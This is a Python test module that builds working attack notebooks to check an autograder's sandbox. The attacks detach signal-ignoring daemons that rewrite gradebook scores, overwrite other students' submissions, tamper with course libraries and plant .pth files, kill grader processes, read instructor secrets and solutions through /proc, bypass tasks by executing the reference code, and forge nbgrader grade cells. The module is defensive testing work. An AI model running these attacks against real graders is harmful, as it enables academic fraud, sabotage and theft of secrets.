"""The hostile class of tests/test_jail_e2e.py: one attack per numbered item of issue 7.

Every attack is written as a hostile student would write it, to work for real on a grader
that runs student code unjailed: it looks for the course root (hard-coded guesses, the
environment, the working folder and its parents, every process's working folder, command
line and environment in /proc) and the test passes the real course roots in, so that
nothing but the jail stands between the attack and the instructor's files.

An attacker's notebook is the full honest solution plus the attack: a cell the student
added right after the set-up cell (``cell``: it runs in the kernel, and in the judge's
sandbox children as one of the student's "other" cells, for every task), and/or code
appended to an answer cell (``append``: it redefines the graded function) or an answer
cell replaced (``replace``), and/or an edit of the notebook's cells (``edit``).

Safety of the machine if the jail fails: the attacks act on the test's own course roots
and processes only (a process is a target when its command line or working folder names
one of those roots, or when it is an ancestor of the attacking process); what they write
into the repository's or the virtualenv's files is a harmless comment or a new file named
after the run's marker, which the test finds and removes. Every process an attack starts
carries the marker in its command line, so the test can find (and kill) survivors.
"""

from __future__ import annotations

import copy

import nbformat

ASSIGNMENT = "00-setup"

#: the attack's constants and helpers, at the top of every attack cell (``{...}`` filled in by ``header``)
_HEADER = '''\
# my extra cell :)
import os, sys, time, signal, shutil, subprocess, struct, glob, json, pickle
MARKER = {marker!r}
ATTACK = {attack!r}
ME = {student!r}
VICTIMS = {victims!r}
GUESSED_ROOTS = {roots!r}
OUTSIDE = {outside!r}
REPO = {repo!r}
ASSIGNMENT = {assignment!r}
CELL_TIMEOUT = {cell_timeout!r}
TIME_LIMIT = {time_limit!r}
'''

_HELPERS = r'''
print("ATTACK-RAN", ATTACK, "pid", os.getpid(), "cwd", os.getcwd())
sys.stdout.flush()


def escaped(what):
    """Say so in the notebook's output: the attack reached something outside the jail."""
    print("ESCAPED:", ATTACK, what)
    sys.stdout.flush()


def _read(path, n=1 << 16):
    try:
        with open(path, "rb") as fh:
            return fh.read(n)
    except OSError:
        return b""


def find_roots():
    """Every course root I can find: guesses, environment, cwd and its parents, /proc."""
    cands = list(GUESSED_ROOTS) + [os.path.expanduser("~/course"), os.path.expanduser("~/nn-course"),
                                   "/srv/nbgrader/nn-course", "/home/instructor/nn-course", "/course", REPO]
    for key, value in os.environ.items():
        if value.startswith("/"):
            cands.extend(value.split(os.pathsep))
    here = os.getcwd()
    for _ in range(8):
        cands.append(here)
        here = os.path.dirname(here)
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            cands.append(os.readlink(f"/proc/{pid}/cwd"))
        except OSError:
            pass
        for blob in (_read(f"/proc/{pid}/cmdline"), _read(f"/proc/{pid}/environ")):
            for arg in blob.split(b"\0"):
                arg = arg.decode("utf-8", "replace").split("=", 1)[-1]
                if arg.startswith("/"):
                    cands.append(arg)
    roots = []
    for cand in cands:
        path = cand
        for _ in range(6):
            if not path or path == "/":
                break
            try:
                hit = os.path.isfile(os.path.join(path, "gradebook.db")) or (
                    os.path.isdir(os.path.join(path, "solutions")) and os.path.isdir(os.path.join(path, "submitted")))
            except OSError:
                hit = False
            if hit and path not in roots:
                roots.append(path)
            path = os.path.dirname(path)
    return roots


def ancestors():
    chain, pid = [], os.getpid()
    for _ in range(64):
        try:
            stat = _read(f"/proc/{pid}/stat").decode()
            pid = int(stat.rsplit(")", 1)[1].split()[1])
        except (ValueError, IndexError):
            break
        if pid <= 0:
            break
        chain.append(pid)
    return chain


def graders():
    """The grading processes (workers, nbgrader, the jail's server, my kernel's parents)."""
    mine, found = set(ancestors()), []
    roots = [r.encode() for r in set(GUESSED_ROOTS) | set(find_roots())]
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) == os.getpid():
            continue
        cmd = _read(f"/proc/{pid}/cmdline")
        if not any(word in cmd for word in (b"autograder", b"nbgrader", b"ipykernel")):
            continue
        try:
            cwd = os.readlink(f"/proc/{pid}/cwd").encode()
        except OSError:
            cwd = b""
        if int(pid) in mine or any(r in cmd or cwd.startswith(r) for r in roots):
            found.append(int(pid))
    return found


def spawn_marked(code, new_session=True):
    """Start `python -c code` (the marker in its command line), detached."""
    return subprocess.Popen([sys.executable, "-c", code + "\n# " + MARKER], start_new_session=new_session,
                            stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                            close_fds=True)


def my_grades_sql():
    return ("SELECT sn.id FROM submitted_notebook sn JOIN submitted_assignment sa "
            "ON sn.assignment_id = sa.id WHERE sa.student_id = ?")


print("ROOTS-SEEN", find_roots())
'''


def header(ctx: dict, attack: str) -> str:
    return _HEADER.format(attack=attack, **ctx) + _HELPERS


# ---------------------------------------------------------------------------
# 1. a detached process that outlives grading and rewrites the gradebook
# ---------------------------------------------------------------------------

_DAEMON = r'''
import os, sys, time, sqlite3, signal
for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGPIPE, signal.SIGUSR1):
    try:
        signal.signal(s, signal.SIG_IGN)
    except Exception:
        pass
ROOTS, ME, VICTIMS, OUTSIDE, MARKER = @ARGS@
OWN = ("SELECT sn.id FROM submitted_notebook sn JOIN submitted_assignment sa "
       "ON sn.assignment_id = sa.id WHERE sa.student_id = ?")
end = time.time() + 3600
while time.time() < end:  # sleep through grading, then (again and again) make myself 10/10, a victim 0
    for root in ROOTS:
        db = os.path.join(root, "gradebook.db")
        if not os.path.exists(db):
            continue
        try:
            with open(os.path.join(OUTSIDE, "daemon-" + ME + "-" + str(os.getpid())), "w") as fh:
                fh.write(MARKER + " saw " + root)
        except OSError:
            pass
        try:
            con = sqlite3.connect(db, timeout=1)
            con.execute("UPDATE grade SET manual_score = 10, auto_score = 10 WHERE notebook_id IN (" + OWN + ")",
                        (ME,))
            for victim in VICTIMS:
                con.execute("UPDATE grade SET manual_score = 0, auto_score = 0 WHERE notebook_id IN (" + OWN + ")",
                            (victim,))
            con.commit()
            con.close()
        except Exception:
            pass
    time.sleep(2)
'''


def attack_01_detach(ctx):
    body = r'''
DAEMON = ''' + repr(_DAEMON) + r'''
DAEMON = DAEMON.replace("@ARGS@", repr((sorted(set(GUESSED_ROOTS) | set(find_roots())), ME, VICTIMS, OUTSIDE,
                                        MARKER)))


def detach_popen():
    p = spawn_marked(DAEMON)
    print("daemon (Popen, new session):", p.pid)


def detach_double_fork():
    pid = os.fork()
    if pid == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                os.execv(sys.executable, [sys.executable, "-c", DAEMON + "\n# " + MARKER])
        finally:
            os._exit(0)
    os.waitpid(pid, 0)
    print("daemon (double fork + setsid) started")


def detach_setsid_tool():
    subprocess.run(["setsid", "-f", sys.executable, "-c", DAEMON + "\n# " + MARKER], stdin=subprocess.DEVNULL,
                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=10)
    print("daemon (setsid -f) started")


for how in (detach_popen, detach_double_fork, detach_setsid_tool):
    try:
        how()
    except Exception as exc:
        print(how.__name__, "failed:", type(exc).__name__, exc)
'''
    return {"cell": header(ctx, "01-detach") + body}


# ---------------------------------------------------------------------------
# 2. the kernel gives itself a manual score while it is graded
# ---------------------------------------------------------------------------

def attack_02_manual_score(ctx):
    body = r'''
import sqlite3


def set_my_score():
    for root in sorted(set(GUESSED_ROOTS) | set(find_roots())):
        db = os.path.join(root, "gradebook.db")
        try:
            con = sqlite3.connect(db, timeout=5)
            n = con.execute("UPDATE grade SET manual_score = 10 WHERE notebook_id IN (" + my_grades_sql() + ")",
                            (ME,)).rowcount
            for victim in VICTIMS:
                con.execute("UPDATE grade SET manual_score = 0 WHERE notebook_id IN (" + my_grades_sql() + ")",
                            (victim,))
            con.commit()
            con.close()
            escaped(f"gradebook {db} updated ({n} rows)")
        except Exception as exc:
            print("gradebook", db, "refused:", type(exc).__name__, exc)


for _ in range(3):
    set_my_score()
    time.sleep(1)
'''
    return {"cell": header(ctx, "02-manual-score") + body}


# ---------------------------------------------------------------------------
# 3. the kernel replaces later students' submissions with the blank release copy
# ---------------------------------------------------------------------------

def attack_03_replace_submission(ctx):
    body = r'''
def blank_the_others():
    for root in sorted(set(GUESSED_ROOTS) | set(find_roots())):
        blank = os.path.join(root, "release", ASSIGNMENT, ASSIGNMENT + ".ipynb")
        for path in sorted(glob.glob(os.path.join(root, "submitted", "*", ASSIGNMENT, "*.ipynb"))):
            student = path.split(os.sep)[-3]
            if student <= ME:
                continue
            try:
                shutil.copyfile(blank, path)
                escaped(f"replaced {path}")
            except OSError as exc:
                print("could not replace", path, exc)


blank_the_others()
'''
    return {"cell": header(ctx, "03-replace-submission") + body}


# ---------------------------------------------------------------------------
# 4. the kernel edits the course library and the grader (and plants files next to them)
# ---------------------------------------------------------------------------

def attack_04_edit_library(ctx):
    body = r'''
import sysconfig


def tamper():
    dirs = set()
    try:
        import course, autograder
        dirs |= {os.path.dirname(course.__file__), os.path.dirname(autograder.__file__)}
    except Exception as exc:
        print("import failed:", exc)
    dirs |= {os.path.join(REPO, "course"), os.path.join(REPO, "autograder")}
    dirs |= set(glob.glob(f"/tmp/nn-course-lib-{os.getuid()}/*/course"))
    dirs |= set(glob.glob(f"/tmp/nn-course-lib-{os.getuid()}/*/autograder"))
    dirs |= set(glob.glob("/tmp/nn-course-lib-*/*/course"))
    for d in sorted(dirs):
        for name in ("activations.py", "activations.pyc", "nbgrader_ext.py", "nbgrader_ext.pyc"):
            path = os.path.join(d, name)
            if not os.path.exists(path):
                continue
            try:  # a real attacker would rewrite softmax; a comment proves the same access, harmlessly
                with open(path, "ab") as fh:
                    fh.write(("\n# " + MARKER + " tampered\n").encode())
                escaped(f"appended to {path}")
            except OSError as exc:
                print("refused:", path, exc)
        for name in (MARKER + ".py", os.path.join("__pycache__", MARKER + ".pyc")):
            try:
                with open(os.path.join(d, name), "w") as fh:
                    fh.write("# " + MARKER + "\n")
                escaped(f"planted {os.path.join(d, name)}")
            except OSError as exc:
                print("refused:", os.path.join(d, name), exc)
    for key in ("purelib", "platlib"):  # a .pth file runs in every Python that starts here
        site = sysconfig.get_paths().get(key)
        try:
            with open(os.path.join(site, MARKER + ".pth"), "w") as fh:
                fh.write("# " + MARKER + "\n")
            escaped(f"planted a .pth in {site}")
        except (OSError, TypeError) as exc:
            print("refused:", site, exc)
    for d in (OUTSIDE, "/tmp", os.path.expanduser("~")):
        path = os.path.join(d, MARKER + "-" + ME)
        try:
            with open(path, "w") as fh:
                fh.write("outside\n")
            if d == OUTSIDE:
                escaped(f"wrote {path}")
        except OSError as exc:
            print("refused:", path, exc)


tamper()
'''
    return {"cell": header(ctx, "04-edit-library") + body}


# ---------------------------------------------------------------------------
# 5. kill the grading workers; a sandbox child stops its parent
# ---------------------------------------------------------------------------

def attack_05_kill_workers(ctx):
    body = r'''
def kill_graders(sig=signal.SIGKILL):
    targets = graders()
    print("graders seen:", targets)
    sys.stdout.flush()
    time.sleep(0.5)
    for pid in targets:
        try:
            os.kill(pid, sig)
        except OSError as exc:
            print("kill", pid, exc)


def pkill_graders():
    for root in sorted(set(GUESSED_ROOTS) | set(find_roots())):
        pattern = f"[a]utograder.worker {root}"  # the brackets: the pattern does not match this shell
        subprocess.run(["sh", "-c", f"pkill -STOP -f '{pattern}'; pkill -KILL -f '{pattern}'; : {MARKER}"],
                       timeout=10)


kill_graders(signal.SIGSTOP)
pkill_graders()
kill_graders()
kill_graders()
kill_graders()
'''
    append = r'''

# stop whoever runs me (the grader) before I answer
import os as _os, signal as _signal
_stopped = []


def softmax(x, axis=-1, _honest=softmax):
    if not _stopped:
        _stopped.append(1)
        try:
            _os.kill(_os.getppid(), _signal.SIGSTOP)
        except OSError:
            pass
        try:
            for pid in graders():
                _os.kill(pid, _signal.SIGSTOP)
        except Exception:
            pass
    return _honest(x, axis)
'''
    return {"cell": header(ctx, "05-kill-workers") + body, "append": {"softmax": append}}


# ---------------------------------------------------------------------------
# 6. the result pipe: a header and no message; a 1 GiB stream; a 1 GiB result
# ---------------------------------------------------------------------------

def attack_06_pipe_protocol(ctx):
    device = r'''

def choose_device(preference="auto", _honest=choose_device):
    import numpy as np
    return np.ones(1 << 27)  # 1 GiB as my answer
'''
    neuron = r'''

def neuron(x, w, b, _honest=neuron):
    import os, struct, time
    for fd in sorted(int(f) for f in os.listdir("/proc/self/fd")):
        try:
            if os.readlink(f"/proc/self/fd/{fd}").startswith("pipe:"):
                os.write(fd, struct.pack("<Q", 1000))  # a length header, and never the message
        except OSError:
            pass
    time.sleep(3600)
    return _honest(x, w, b)
'''
    softmax = r'''

def softmax(x, axis=-1, _honest=softmax):
    import os, struct
    chunk, sent = b"\xff" * (1 << 20), 0
    for fd in sorted(int(f) for f in os.listdir("/proc/self/fd")):
        try:
            if not os.readlink(f"/proc/self/fd/{fd}").startswith("pipe:"):
                continue
            os.write(fd, struct.pack("<Q", 1 << 30))
            while sent < (1 << 30):  # 1 GiB down the pipe
                sent += os.write(fd, chunk)
        except OSError:
            pass
    return np.zeros((1 << 27,))  # and 1 GiB as the result
'''
    return {"append": {"choose-device": device, "neuron": neuron, "softmax": softmax}}


# ---------------------------------------------------------------------------
# 7. read the instructor's files; hard-code the hidden cases' answers
# ---------------------------------------------------------------------------

def attack_07_read_secrets(ctx):
    body = r'''
def leak():
    roots = sorted(set(GUESSED_ROOTS) | set(find_roots()))
    paths = []
    for root in roots:
        paths += [os.path.join(root, "gradebook.db"), os.path.join(root, ".autograder", "secret")]
        paths += glob.glob(os.path.join(root, "solutions", "*", "*.ipynb"))
        paths += glob.glob(os.path.join(root, "source", "*", "*.ipynb"))
        paths += [p for p in glob.glob(os.path.join(root, "submitted", "*", "*", "*.ipynb"))
                  if p.split(os.sep)[-3] != ME]
    for name in ("AUTOGRADER_SECRET_FILE",):
        if os.environ.get(name):
            paths.append(os.environ[name])
    for pid in os.listdir("/proc"):  # the grader's environment names the secret's file
        if pid.isdigit():
            for item in _read(f"/proc/{pid}/environ").split(b"\0"):
                if item.startswith(b"AUTOGRADER_SECRET_FILE="):
                    paths.append(item.split(b"=", 1)[1].decode())
    for path in paths:
        data = _read(path, 4000)
        if data:
            escaped(f"read {path}")
            print("LEAK-FOUND", path, data[:300])
    return roots


def hidden_answers():
    """The hidden cases' inputs and the reference's answers, kept for my softmax."""
    from autograder import tasks
    from course.activations import softmax as reference

    for root in sorted(set(GUESSED_ROOTS) | set(find_roots())):
        key = _read(os.path.join(root, ".autograder", "secret")).strip()
        if key:
            tasks.set_secret(bytes.fromhex(key.decode()))
    for pid in os.listdir("/proc"):
        for item in _read(f"/proc/{pid}/environ").split(b"\0") if pid.isdigit() else []:
            if item.startswith(b"AUTOGRADER_SECRET_FILE="):
                os.environ["AUTOGRADER_SECRET_FILE"] = item.split(b"=", 1)[1].decode()
    try:
        cases = tasks.get_task("00.softmax").cases("hidden")
    except Exception as exc:
        print("no hidden cases:", type(exc).__name__, str(exc)[:200])
        return
    table = []
    for case in cases:
        x = case.args[0]
        table.append((x, dict(case.kwargs), reference(x, **case.kwargs)))
    with open(".my_softmax_notes.pkl", "wb") as fh:
        pickle.dump(table, fh)
    escaped(f"hard-coded {len(table)} hidden cases")


leak()
try:
    hidden_answers()
except Exception as exc:
    print("hidden answers failed:", type(exc).__name__, exc)
'''
    softmax = r'''import pickle

import numpy as np
import torch

try:
    with open(".my_softmax_notes.pkl", "rb") as fh:
        _NOTES = pickle.load(fh)
except Exception:
    _NOTES = []


def softmax(x, axis=-1):
    """Looks the answer up when it can (the hidden cases), else the literal formula."""
    is_torch = isinstance(x, torch.Tensor)
    x64 = (x.detach().cpu().numpy() if is_torch else np.asarray(x)).astype(np.float64)
    for inp, kwargs, out in _NOTES:
        if inp.shape == x64.shape and kwargs.get("axis", -1) == axis and np.allclose(inp, x64, rtol=1e-5):
            if is_torch:
                return torch.as_tensor(out, dtype=x.dtype, device=x.device)
            return out.astype(x.dtype)
    if isinstance(x, np.ndarray):
        e = np.exp(x)
        return e / e.sum(axis=axis, keepdims=True)
    e = x.exp()
    return e / e.sum(dim=axis, keepdim=True)
'''
    return {"cell": header(ctx, "07-read-secrets") + body, "replace": {"softmax": softmax}}


# ---------------------------------------------------------------------------
# 8. from-scratch bypasses of the softmax task
# ---------------------------------------------------------------------------

_TORCH_WRAP = r'''import numpy as np
import torch


def softmax(x, axis=-1):
    t = torch.as_tensor(x)
    out = {expr}
    return out.numpy() if isinstance(x, np.ndarray) else out
'''

ROUTES = {
    "sys_modules": r'''import sys


def softmax(x, axis=-1):
    ref = sys.modules.get("cou" + "rse.activations") or sys.modules["cou" + "rse"].activations
    return ref.softmax(x, axis=axis)
''',
    "reload": r'''import importlib


def softmax(x, axis=-1):
    ref = importlib.reload(importlib.import_module("cou" + "rse.activations"))
    return ref.softmax(x, axis=axis)
''',
    "dunder_import": r'''def softmax(x, axis=-1):
    return __import__("cou" + "rse.activations", fromlist=["softmax"]).softmax(x, axis=axis)
''',
    "log_softmax_exp": _TORCH_WRAP.replace("{expr}", "torch.log_softmax(t, dim=axis).exp()"),
    "special_log_softmax": _TORCH_WRAP.replace("{expr}", "torch.special.log_softmax(t, dim=axis).exp()"),
    "aten_softmax_int": _TORCH_WRAP.replace("{expr}", "torch.ops.aten.softmax.int(t, axis)"),
    "variable_functions": _TORCH_WRAP.replace("{expr}", "torch._C._VariableFunctions.softmax(t, axis)"),
    "underscore_softmax": _TORCH_WRAP.replace("{expr}", "torch._softmax(t, axis, False)"),
}

#: exec of the reference: the kernel copies the reference's code (its source, or the byte code the jail
#: has) into the notebook's folder; the answer cell executes it under another package name
_EXEC_CELL = r'''
def copy_reference():
    import course.activations as act, course._backend as backend
    for mod, name in ((backend, "backend"), (act, "activations")):
        data = b""
        try:
            import inspect
            data = b"SRC:" + inspect.getsource(mod).encode()
        except Exception:
            raw = _read(mod.__file__, 1 << 24)
            if mod.__file__.endswith(".pyc"):
                data = b"PYC:" + raw
            else:
                data = b"SRC:" + raw
        with open(f".my_{name}.bin", "wb") as fh:
            fh.write(data)
        print("copied", mod.__file__, len(data))


copy_reference()
'''

_EXEC_ANSWER = r'''import marshal
import sys
import types

import numpy as np


def _load(name, package):
    module = types.ModuleType(name)
    module.__package__ = package
    with open(f".my_{name.rsplit('.', 1)[-1].lstrip('_')}.bin", "rb") as fh:
        data = fh.read()
    code = compile(data[4:].decode(), "<mine>", "exec") if data[:4] == b"SRC:" else marshal.loads(data[4 + 16:])
    sys.modules[name] = module
    exec(code, module.__dict__)
    return module


try:
    sys.modules["mylib"] = types.ModuleType("mylib")
    sys.modules["mylib"].__path__ = []
    _load("mylib._backend", "mylib")
    _mine = _load("mylib.activations", "mylib")
except Exception as exc:
    _mine = None


def softmax(x, axis=-1):
    if _mine is not None:
        return _mine.softmax(x, axis=axis)
    e = np.exp(x)
    return e / e.sum(axis=axis, keepdims=True)
'''


def attack_08_route(route: str):
    def make(ctx):
        if route == "exec_reference":
            return {"cell": header(ctx, "08-exec-reference") + _EXEC_CELL, "replace": {"softmax": _EXEC_ANSWER}}
        return {"replace": {"softmax": ROUTES[route]}}
    return make


# ---------------------------------------------------------------------------
# 9. 100 MB of output; sleeping just under every limit
# ---------------------------------------------------------------------------

def attack_09_print_flood(ctx):
    body = r'''
for _ in range(100):  # 100 MB, a megabyte at a time
    print("x" * 1_000_000)
print("y" * 100_000_000)  # and 100 MB at once
from IPython.display import HTML, display
display(HTML("<pre>" + "z" * 20_000_000 + "</pre>"))
'''
    return {"cell": header(ctx, "09-print-flood") + body}


def attack_09_sleeper(ctx):
    body = r'''
time.sleep(CELL_TIMEOUT - 1)  # just under the cell's limit
'''
    more = ["import time\ntime.sleep(%r)  # again\n" % (ctx["cell_timeout"] - 1)] * 2
    slow = {
        "choose-device": '''

import time as _time
_slow_device = []


def choose_device(preference="auto", _honest=choose_device):
    if not _slow_device:
        _slow_device.append(1)
        _time.sleep(%(t)r)  # just under the task's time limit
    return _honest(preference)
''',
        "neuron": '''

import time as _time
_slow_neuron = []


def neuron(x, w, b, _honest=neuron):
    if not _slow_neuron:
        _slow_neuron.append(1)
        _time.sleep(%(t)r)
    return _honest(x, w, b)
''',
        "softmax": '''

import time as _time
_slow_softmax = []


def softmax(x, axis=-1, _honest=softmax):
    if not _slow_softmax:
        _slow_softmax.append(1)
        _time.sleep(%(t)r)
    return _honest(x, axis)
''',
    }
    t = ctx["time_limit"] - 1
    return {"cell": header(ctx, "09-sleeper") + body, "cells": more,
            "append": {k: v % {"t": t} for k, v in slow.items()}}


# ---------------------------------------------------------------------------
# 10. nbgrader's cells: a duplicated test cell, a renamed grade id, an extra grade cell
# ---------------------------------------------------------------------------

def _find(nb, grade_id):
    for i, cell in enumerate(nb.cells):
        if cell.metadata.get("nbgrader", {}).get("grade_id") == grade_id:
            return i, cell
    raise KeyError(grade_id)


def _new_id(cell):
    if "id" in cell:
        from nbformat.corpus.words import generate_corpus_id

        cell["id"] = generate_corpus_id()


def _dup_test_cell(nb):
    i, cell = _find(nb, "test-softmax")
    twin = copy.deepcopy(cell)
    twin.source = "print('graded twice?')\n4"
    _new_id(twin)
    nb.cells.insert(i + 1, twin)
    j, neuron_test = _find(nb, "test-neuron")
    other = copy.deepcopy(neuron_test)
    _new_id(other)
    nb.cells.insert(j, other)  # and a copy of another test cell before its original


def _renamed_grade_id(nb):
    _, cell = _find(nb, "test-softmax")
    cell.metadata["nbgrader"]["grade_id"] = "test-softmax-mine"
    cell.metadata["nbgrader"]["points"] = 400
    _, answer = _find(nb, "neuron")
    answer.metadata["nbgrader"]["grade_id"] = "neuron-v2"


def _extra_grade_cell(nb):
    extra = nbformat.v4.new_code_cell('check("00.softmax", softmax)\ncheck("00.neuron", neuron)\n')
    extra.metadata["nbgrader"] = {"grade": True, "solution": False, "locked": True, "task": False, "points": 100,
                                  "grade_id": "bonus-points", "schema_version": 3}
    nb.cells.append(extra)
    manual = nbformat.v4.new_markdown_cell("I deserve these points.")
    manual.metadata["nbgrader"] = {"grade": True, "solution": True, "locked": False, "task": False, "points": 50,
                                   "grade_id": "written-bonus", "schema_version": 3}
    nb.cells.append(manual)


def attack_10(kind):
    edit = {"duplicate_test_cell": _dup_test_cell, "renamed_grade_id": _renamed_grade_id,
            "extra_grade_cell": _extra_grade_cell}[kind]
    return lambda ctx: {"edit": edit}


# ---------------------------------------------------------------------------
# 11. all-zero answers: the hidden cases' feedback must not give expected values away
# ---------------------------------------------------------------------------

def attack_11_zero_answers(ctx):
    return {"replace": {
        "neuron": "import numpy as np\nimport torch\n\n\ndef neuron(x, w, b):\n    return (x @ w) * 0\n",
        "softmax": "def softmax(x, axis=-1):\n    return x * 0\n",
    }}


#: student id -> how the attack is made (ctx -> plan); grading order is by name
ATTACKS = {
    "attack_01_detach": attack_01_detach,
    "attack_02_manual_score": attack_02_manual_score,
    "attack_03_replace_submission": attack_03_replace_submission,
    "attack_04_edit_library": attack_04_edit_library,
    "attack_05_kill_workers": attack_05_kill_workers,
    "attack_06_pipe_protocol": attack_06_pipe_protocol,
    "attack_07_read_secrets": attack_07_read_secrets,
    **{f"attack_08_{r}": attack_08_route(r) for r in
       ("sys_modules", "reload", "dunder_import", "exec_reference", "log_softmax_exp", "special_log_softmax",
        "aten_softmax_int", "variable_functions", "underscore_softmax")},
    "attack_09_print_flood": attack_09_print_flood,
    "attack_09_sleeper": attack_09_sleeper,
    **{f"attack_10_{k}": attack_10(k) for k in ("duplicate_test_cell", "renamed_grade_id", "extra_grade_cell")},
    "attack_11_zero_answers": attack_11_zero_answers,
}


def build(nb, plan: dict):
    """The attacker's notebook: ``nb`` (the full solution, a copy is made) with the attack ``plan``."""
    nb = copy.deepcopy(nb)
    for grade_id, source in plan.get("replace", {}).items():
        _find(nb, grade_id)[1].source = source
    for grade_id, source in plan.get("append", {}).items():
        cell = _find(nb, grade_id)[1]
        cell.source = cell.source.rstrip("\n") + "\n" + source
    extra = [plan["cell"]] if plan.get("cell") else []
    extra += plan.get("cells", [])
    at = _find(nb, "setup")[0] + 1
    for k, source in enumerate(extra):
        nb.cells.insert(at + k, nbformat.v4.new_code_cell(source))  # cells the student added: no metadata
    if plan.get("edit"):
        plan["edit"](nb)
    return nb
